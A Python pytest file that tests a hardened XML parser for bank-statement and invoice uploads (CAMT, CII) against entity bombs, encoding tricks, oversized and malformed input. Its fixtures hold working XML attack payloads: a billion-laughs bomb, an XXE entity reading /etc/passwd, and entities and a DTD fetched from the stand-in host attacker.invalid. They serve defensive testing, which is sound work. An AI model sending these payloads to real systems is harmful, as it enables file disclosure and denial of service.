"""Safe XML parsing of untrusted uploads: entities, encodings, size, malformed input."""

from __future__ import annotations

import re

import pytest

from recouvra.imports.parsers.camt import parse_camt
from recouvra.imports.parsers.cii import parse_cii
from recouvra.imports.parsers.xmlsafe import (
    ENTITIES_NOT_ALLOWED,
    amount_to_cents,
    iterparse_xml,
    local_name,
    parse_xml,
)
from recouvra.imports.records import ParseError

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Document><Ustrd>&lol9;</Ustrd></Document>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Document><Ustrd>&xxe;</Ustrd></Document>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<d/>
"""
EXTERNAL_DTD = b'<?xml version="1.0"?>\n<!DOCTYPE d SYSTEM "http://attacker.invalid/d.dtd">\n<d/>'


@pytest.mark.parametrize(
    ("data", "line"),
    [(BILLION_LAUGHS, 2), (EXTERNAL_ENTITY, 2), (PARAMETER_ENTITY, 2), (EXTERNAL_DTD, 2)],
    ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd"],
)
def test_entities_and_doctypes_are_refused(data, line):
    with pytest.raises(ParseError) as caught:
        parse_xml(data, filename="evil.xml")
    assert caught.value.reason == ENTITIES_NOT_ALLOWED
    assert (caught.value.file, caught.value.line) == ("evil.xml", line)
    assert str(caught.value) == f"evil.xml, ligne {line} : {ENTITIES_NOT_ALLOWED}"


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY], ids=["bomb", "xxe"])
def test_the_parsers_refuse_them_too(data):
    for parse in (parse_camt, parse_cii):
        with pytest.raises(ParseError, match=re.escape(ENTITIES_NOT_ALLOWED)):
            parse(data, filename="evil.xml")
    with pytest.raises(ParseError, match=re.escape(ENTITIES_NOT_ALLOWED)):
        list(iterparse_xml(data, filename="evil.xml"))


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_entities_hidden_in_a_wide_encoding_are_refused(codec):
    data = EXTERNAL_ENTITY.decode().replace("UTF-8", codec.upper()).encode(codec)
    with pytest.raises(ParseError, match=re.escape(ENTITIES_NOT_ALLOWED)):
        parse_xml(data, filename="wide.xml")


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE d+AD4-<d/>',
        b'<?xml version="1.0" encoding="UTF-16"?><d/>',  # 8-bit bytes claiming UTF-16
        b"\x4c\x6f\xa7\x94\x93@\xa5\x85\x99\xa2\x89\x96\x95",  # EBCDIC "<?xml version"
    ],
    ids=["utf-7", "utf-16-declared", "ebcdic"],
)
def test_encodings_that_could_hide_a_doctype_are_refused(data):
    with pytest.raises(ParseError, match="encodage XML non pris en charge") as caught:
        parse_xml(data, filename="enc.xml")
    assert caught.value.file == "enc.xml"


def test_utf8_bom_and_utf16_documents_parse():
    text = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<Document>\n<Nm>Société Générale</Nm></Document>'
    )
    with_bom = b"\xef\xbb\xbf" + text.encode("utf-8")
    assert parse_xml(with_bom)[0].text == "Société Générale"
    for codec in ("utf-16", "utf-16-le", "utf-32"):
        data = text.replace("UTF-8", "UTF-16").encode(codec)
        root = parse_xml(data)
        assert root[0].text == "Société Générale"
        assert root[0].sourceline == 3  # line numbers kept


def test_latin1_declared_document_parses():
    data = '<?xml version="1.0" encoding="ISO-8859-1"?><a>Crédit</a>'.encode("latin-1")
    assert parse_xml(data).text == "Crédit"


@pytest.mark.parametrize(
    ("data", "line", "message"),
    [
        (b"<a>\n<b>\n<c>text</c>\n", 4, "Premature end of data"),
        (b"<a>\n<b></a>", 2, "Opening and ending tag mismatch"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", 1, "Start tag expected"),
        (b"just some text", 1, "Start tag expected"),
        (b"<a>&undefined;</a>", 1, "Entity 'undefined' not defined"),
        (b"<a/><b/>", 1, "Extra content at the end of the document"),
    ],
    ids=["truncated", "mismatch", "binary", "text", "undefined-entity", "two-roots"],
)
def test_malformed_xml_names_file_and_line(data, line, message):
    with pytest.raises(ParseError) as caught:
        parse_xml(data, filename="bad.xml")
    error = caught.value
    assert (error.file, error.line) == ("bad.xml", line)
    assert error.reason.startswith("XML mal formé : ")
    assert message in error.reason
    with pytest.raises(ParseError) as streamed:
        list(iterparse_xml(data, filename="bad.xml"))
    assert (streamed.value.file, streamed.value.line) == ("bad.xml", line)


@pytest.mark.parametrize("data", [b"", b"  \n\t ", b"\xef\xbb\xbf"], ids=["empty", "blank", "bom"])
def test_empty_file(data):
    with pytest.raises(ParseError, match="fichier vide"):
        parse_xml(data, filename="e.xml")


def test_size_cap():
    data = b"<a>" + b"x" * 2000 + b"</a>"
    assert parse_xml(data, max_bytes=len(data)).tag == "a"
    with pytest.raises(ParseError, match="fichier trop volumineux") as caught:
        parse_xml(data, filename="big.xml", max_bytes=1000)
    assert caught.value.file == "big.xml"
    with pytest.raises(ParseError, match="fichier trop volumineux"):
        parse_camt(data, filename="big.xml", max_bytes=1000)


def test_deep_nesting_is_refused_by_libxml2_limits():
    depth = 20_000
    data = b"<a>" * depth + b"</a>" * depth
    with pytest.raises(ParseError, match="XML mal formé"):
        parse_xml(data, filename="deep.xml")


def test_comments_and_processing_instructions_are_dropped():
    root = parse_xml(b"<a><!-- note --><?pi data?><b>1</b></a>")
    assert [child.tag for child in root] == ["b"]


def test_iterparse_gives_the_root_afterwards():
    stream = iterparse_xml(b"<r><x/><x/></r>", tag="x")
    assert [element.tag for _, element in stream] == ["x", "x"]
    assert stream.root.tag == "r"


def test_local_name():
    assert local_name("{urn:iso:std:iso:20022:tech:xsd:camt.053.001.02}Ntry") == "Ntry"
    assert local_name("Ntry") == "Ntry"
    assert local_name(None) == ""


@pytest.mark.parametrize(
    ("text", "cents"),
    [
        ("1000.01", 100001),
        ("105.750", 10575),
        ("01.00", 100),
        ("474.4", 47440),
        ("2700", 270000),
        (" 12.30 ", 1230),
        ("0", 0),
        ("-233.47", -23347),
        ("+5.5", 550),
        (".5", 50),
        ("7.", 700),
        ("334425218.07", 33442521807),
        ("99999999999999999.99", 9999999999999999999),
    ],
)
def test_amount_to_cents(text, cents):
    assert amount_to_cents(text) == cents


@pytest.mark.parametrize(
    "text",
    ["", "12,50", "1.005", "1e3", "NaN", "Infinity", "١٢", "1 000.00", "--1", ".", "1.2.3"],
)
def test_amount_to_cents_refuses(text):
    with pytest.raises(ValueError):
        amount_to_cents(text)
